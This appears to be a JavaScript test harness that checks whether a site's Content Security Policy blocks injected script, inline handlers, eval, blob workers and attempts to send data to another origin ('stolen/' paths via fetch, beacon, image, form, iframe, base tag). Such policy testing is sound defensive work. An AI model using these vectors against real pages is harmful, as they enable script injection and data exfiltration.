// Runs before the app, as a file of its site, which the policy allows: what goes wrong is put into `window.watched`.

window.watched = { violations: [], errors: [] };
performance.setResourceTimingBufferSize(5000);
addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) =>
  window.watched.violations.push(`${effectiveDirective}: ${blockedURI} in ${sourceFile}`),
);
const told = ({ message, target }) => window.watched.errors.push(message ?? `not loaded: ${target.src ?? target.href}`);
addEventListener("error", told, true);
addEventListener("unhandledrejection", ({ reason }) => window.watched.errors.push(`unhandled: ${reason}`));
const { error } = console;
console.error = (...words) => {
  window.watched.errors.push(words.join(" "));
  error.apply(console, words);
};

const soon = (ms = 300) => new Promise((resolve) => setTimeout(resolve, ms));
const inserted = (html) => {
  const place = document.body.appendChild(document.createElement("div"));
  place.innerHTML = html;
  return place.firstElementChild;
};
const element = (name, properties) =>
  document.body.appendChild(Object.assign(document.createElement(name), properties));

// What text that got into the page as HTML, or a script of somebody else, could try; each says whether it worked.
const ATTEMPTS = {
  inlineScript: () => {
    element("script", { textContent: "window.ranInline = true" });
    return window.ranInline === true;
  },
  handler: () => {
    inserted('<button onclick="window.ranHandler = true">x</button>').click();
    return window.ranHandler === true;
  },
  javascriptAddress: async () => {
    inserted('<a href="javascript:void(window.ranAddress = true)">x</a>').click();
    await soon();
    return window.ranAddress === true;
  },
  styleAttribute: () => getComputedStyle(inserted('<p style="color: rgb(1, 2, 3)">x</p>')).color === "rgb(1, 2, 3)",
  styleElement: () => {
    inserted("<style>.painted { color: rgb(4, 5, 6) }</style>");
    return getComputedStyle(inserted('<p class="painted">x</p>')).color === "rgb(4, 5, 6)";
  },
  eval: () => (0, eval)("1 + 1") === 2,
  newFunction: () => Function("return 3")() === 3,
  blobWorker: () => {
    const url = URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }));
    return new Promise((resolve) => {
      const worker = new Worker(url);
      worker.onmessage = () => resolve(true);
      worker.onerror = () => resolve(false);
    });
  },
  // From here on to another site.
  fetch: async (other) => (await fetch(other + "stolen/fetch", { mode: "no-cors" })).type === "opaque",
  beacon: async (other) => {
    navigator.sendBeacon(other + "stolen/beacon", "words");
    await soon();
    return undefined;
  },
  image: (other) => loads(new Image(), other + "stolen/image.svg"),
  script: (other) => loads(element("script", {}), other + "stolen/script.js"),
  style: (other) => {
    const link = element("link", { rel: "stylesheet" });
    return loads(link, other + "stolen/style.css", "href");
  },
  frame: async (other) => {
    element("iframe", { src: other + "stolen/frame.html" });
    await soon();
    return undefined;
  },
  form: async (other) => {
    const form = element("form", { action: other + "stolen/form", method: "post", target: "sent" });
    element("iframe", { name: "sent" });
    form.submit();
    await soon();
    return undefined;
  },
  base: (other) => {
    document.head.prepend(Object.assign(document.createElement("base"), { href: other }));
    return document.baseURI.startsWith(other);
  },
};

function loads(loaded, url, property = "src") {
  return new Promise((resolve) => {
    loaded.onload = () => resolve(true);
    loaded.onerror = () => resolve(false);
    loaded[property] = url;
    setTimeout(() => resolve(false), 2000);
  });
}

/** Tries everything; `undefined` where only the other site's log can tell. */
window.attempt = async (other) => {
  await soon(0); // from here on it is the page that runs, not the test
  const worked = {};
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    try {
      worked[name] = await attempt(other);
    } catch {
      worked[name] = false;
    }
  }
  await soon();
  return worked;
};
